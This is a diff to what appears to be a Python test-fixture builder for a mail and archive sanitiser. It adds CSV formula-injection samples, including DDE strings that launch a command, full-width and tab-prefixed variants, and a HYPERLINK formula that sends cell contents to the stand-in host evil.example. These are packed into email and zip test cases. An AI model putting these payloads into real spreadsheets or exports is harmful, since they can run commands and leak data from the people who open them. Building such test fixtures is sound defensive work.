@@ -564,6 +564,9 @@ def _b64text(text: str) -> str:
     return base64.b64encode(text.encode()).decode()
 
 
+# OWASP CSV injection: DDE, a link built at the click, full-width and tab-led spellings
+CSV_FORMULAS = ("品名,数量\r\n=cmd|' /C calc'!A0,1\r\n@SUM(1+1)*cmd|' /C calc'!A0,2\r\n"
+                '"=HYPERLINK(""http://evil.example/""&A1,""x"")",3\r\n＝1+1,4\r\n\t=1+2,5\r\n -2+3+cmd|x!A,6\r\n').encode()
 SINGLE_HEAD = b"From: sender@example.jp\r\nTo: soumu@example.lg.jp\r\nSubject: x\r\nMIME-Version: 1.0\r\n"
 OK = ("ok.txt", b.BENIGN.encode())
 HOSTILE_HTML = "".join(b.HTML_ATTACKS[k] for k in ("script", "event-handlers", "javascript-url", "meta-refresh", "remote-img",
@@ -681,6 +684,7 @@ def build_cases() -> dict[str, tuple[str, Sample]]:
                                                    .join([b"begin 644 photo.jpg\r\n", b"`\r\nend\r\n"])])),
         "mail-empty": ("empty.eml", b""),
         "mail-binary-junk": ("junk.eml", bytes(range(256)) * 64),
+        "mail-csv-formulas": ("csv.eml", b.mail([at('filename="集計.csv"', CSV_FORMULAS, "text/csv")])),
         "mail-uuencoded-body": ("uu.eml", SINGLE_HEAD + b.uuencoded_body("run.bat", b.BATCH)),
         "mail-rfc822-nested-30": ("deep.eml", b.mail([b.rfc822(b.nested_rfc822(30))])),
         "mail-zip-attachment-slip": ("mzip.eml", b.mail([at('filename="docs.zip"', b.raw_zip(
@@ -748,6 +752,7 @@ def build_cases() -> dict[str, tuple[str, Sample]]:
         "zip-wide-nested-bomb": ("wide.zip", _wide_bomb),
         "tar-runnable": ("run.tar", b.tar_archive([*b.RUNNABLE_MEMBERS.items(), OK])),
         "cab-runnable": ("run.cab", b.cab_archive([*b.RUNNABLE_MEMBERS.items(), ("ok.txt", HELLO)])),
+        "zip-csv-formulas": ("csv.zip", b.std_zip({"集計.csv": CSV_FORMULAS, "集計.tsv": CSV_FORMULAS.replace(b",", b"\t")})),
         "zip-eml-member": ("eml.zip", b.std_zip({"m.eml": b.html_mail(b.html_page(HOSTILE_HTML)), "ok.txt": HELLO})),
         # ------------------------------------------------------------------ tar, gzip
         "tar-links-and-device": ("links.tar", b.tar_archive([OK], links=True)),
